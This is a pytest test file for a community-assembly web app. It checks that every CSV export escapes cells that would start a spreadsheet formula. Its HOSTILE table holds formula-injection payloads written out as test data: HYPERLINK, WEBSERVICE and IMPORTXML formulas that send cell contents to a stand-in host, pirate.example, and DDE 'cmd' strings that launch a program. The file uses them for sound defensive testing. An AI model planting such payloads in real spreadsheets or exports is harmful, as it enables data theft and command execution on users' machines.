"""Every CSV the app writes is safe to open in a spreadsheet: no cell starts a formula."""

import csv
import io
from datetime import datetime, timedelta

import pytest

from assembly.web.contact import parse_contact
from assembly.web.spreadsheet import FORMULA_STARTS, safe_cell
from tests.test_access_matrix import build_url

# One hostile text per field that reaches a CSV: each would run in Excel or LibreOffice.
HOSTILE = {
    "title": '=HYPERLINK("http://pirate.example/?"&A1;"Cliquez")',
    "body": "+33 6 12 34 56 78, rappeler",
    "place": "-2+3+cmd|' /C calc'!A0",
    "theme": "@SUM(1+1)*cmd|' /C calc'!A0",
    "author_name": "\t=1+1",
    "contact": "=1+1@example.org",  # an e-mail address may start so
    "status_reason": "=2+5",
    "question": '=WEBSERVICE("http://pirate.example/"&A1)',
    "option": '+HYPERLINK("http://pirate.example")',
    "other_option": "-1",
    "name": "=cmd|' /C calc'!A0",
    "building": "@Bâtiment B",
    "languages": "+wolof",
    "comment": "-1 pour moi",
    "rewrite": '=IMPORTXML("http://pirate.example";"//a")',
    "signed": "@Awa",
    "answer_reason": "+ d’infos à la prochaine assemblée",
}


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Ascenseur = panne", "Ascenseur = panne"),
        ("", ""),
        (None, ""),
        (-3, -3),  # a number the app writes stays a number
        (12, 12),
    ],
)
def test_a_cell_that_would_start_a_formula_is_written_as_text(value, cell):
    assert safe_cell(value) == cell


def hostile_records(app, world, clock) -> None:
    """A need, a settled majority judgment, a person and a contribution to a consultation
    whose every exported text is hostile."""
    from assembly.auth.models import User
    from assembly.decisions.models import Grade, Method
    from assembly.decisions.operations.core import close_due
    from assembly.decisions.operations.online import create_online_decision
    from assembly.decisions.operations.voting import cast_ballot
    from assembly.extensions import db
    from assembly.groups.models import Group
    from assembly.needs.models import Channel, NeedStatus
    from assembly.needs.operations import add_theme, set_status, submit_need

    clock.freeze(datetime(2026, 3, 1, 12))
    with app.app_context():
        group = db.session.get(Group, world.group.id)
        admin = db.session.get(User, world.people["admin"].id)
        need = submit_need(
            group,
            title=HOSTILE["title"],
            body=HOSTILE["body"],
            place=HOSTILE["place"],
            theme=add_theme(group, HOSTILE["theme"]),
            channel=Channel.PAPER,
            author_name=HOSTILE["author_name"],
            contact=parse_contact(HOSTILE["contact"]),
            wording="J’accepte (test).",
            trusted=True,
        )
        set_status(need, NeedStatus.TAKEN_UP, HOSTILE["status_reason"])
        decision = create_online_decision(
            group,
            question=HOSTILE["question"],
            method=Method.JUDGMENT,
            by=admin,
            closes_at=clock.utcnow() + timedelta(days=1),
            options=[HOSTILE["option"], HOSTILE["other_option"]],
            public=True,
            needs=[need],
        )
        first, second = decision.options
        cast_ballot(decision, user_id=admin.id, grades={first.id: Grade.VERY_GOOD, second.id: 0})
        clock.advance(days=2)
        close_due()
        from assembly.people.models import Person

        db.session.add(
            Person(
                group_id=group.id,
                name=HOSTILE["name"],
                building=HOSTILE["building"],
                languages=HOSTILE["languages"],
            )
        )
        from assembly.consultations.models import (
            Consultation,
            Contribution,
            ContributionType,
            TeamAnswer,
        )

        consultation = db.session.scalar(
            db.select(Consultation).filter_by(
                group_id=group.id, number=world.args["consultation_number"]
            )
        )
        db.session.add(
            Contribution(
                consultation_id=consultation.id,
                paragraph_id=world.args["paragraph_id"],
                kind=ContributionType.AMENDMENT,
                text=HOSTILE["comment"],
                rewrite=HOSTILE["rewrite"],
                author_name=HOSTILE["signed"],
                answer=TeamAnswer.NOT_KEPT,
                answer_reason=HOSTILE["answer_reason"],
            )
        )
        db.session.commit()


def csv_routes(app, client, args) -> dict[str, str]:
    """Every GET route that answers with a CSV, by endpoint, and the text it sent."""
    found = {}
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or rule.endpoint == "static":
            continue
        response = client.get(build_url(app, rule.endpoint, args), query_string={"personal": "1"})
        if response.mimetype == "text/csv":
            assert response.content_type == "text/csv; charset=utf-8", rule.endpoint  # once
            found[rule.endpoint] = response.get_data(as_text=True)
    return found


def test_no_csv_cell_starts_a_formula_whatever_residents_typed(app, world, client, auth, clock):
    hostile_records(app, world, clock)
    auth.login("organizer")  # sees every column, names and contacts included

    exports = csv_routes(app, client, world.args)

    assert {"needs.export_csv", "decisions.export_csv", "people.export_csv"} <= set(exports)
    cells = {}
    for endpoint, text in exports.items():
        rows = csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=";")
        cells[endpoint] = {cell for row in rows for cell in row}
        assert not [cell for cell in cells[endpoint] if cell.startswith(FORMULA_STARTS)], endpoint
        assert any(cell.startswith("'") for cell in cells[endpoint]), f"{endpoint}: none hostile"
    # Each hostile text arrived, as text (the operations strip the whitespace around it).
    expected = {
        "needs.export_csv": ("title", "body", "place", "theme", "author_name", "contact"),
        "decisions.export_csv": ("question", "option"),
        "people.export_csv": ("name", "building", "languages"),
        "consultations.contributions_csv": ("comment", "rewrite", "signed", "answer_reason"),
    }
    for endpoint, fields in expected.items():
        for field in fields:
            assert "'" + HOSTILE[field].strip() in cells[endpoint], (endpoint, field)
    assert "'" + HOSTILE["status_reason"] in cells["needs.export_csv"]
